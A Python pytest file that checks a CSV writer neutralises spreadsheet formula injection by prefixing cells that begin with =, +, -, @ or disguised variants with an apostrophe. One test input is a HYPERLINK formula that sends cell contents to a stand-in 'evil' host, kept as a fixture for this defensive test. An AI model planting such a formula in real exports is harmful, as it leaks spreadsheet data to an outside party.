"""CSV files for spreadsheets: no cell of a stranger's text is run."""

import csv
from pathlib import Path

import pytest

from gavamoe.artifacts.csv_files import write_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "  =1",
        "\n=1",
        "\t=1",
        "\r=1",
        "＝1",
        " ＋1",
        "\u00a0=1",
    ],
)
def test_formulas_become_text(tmp_path: Path, text: str) -> None:
    write_csv(tmp_path / "t.csv", ("a", "b"), [(text, 1)])
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [["a", "b"], [f"'{text}", "1"]]


def test_numbers_and_plain_texts_stay(tmp_path: Path) -> None:
    write_csv(tmp_path / "t.csv", ("a", "b", "c"), [('a = b, "c"', -0.5, None)], mark=True)
    assert (tmp_path / "t.csv").read_bytes() == b'\xef\xbb\xbfa,b,c\r\n"a = b, ""c""",-0.5,\r\n'
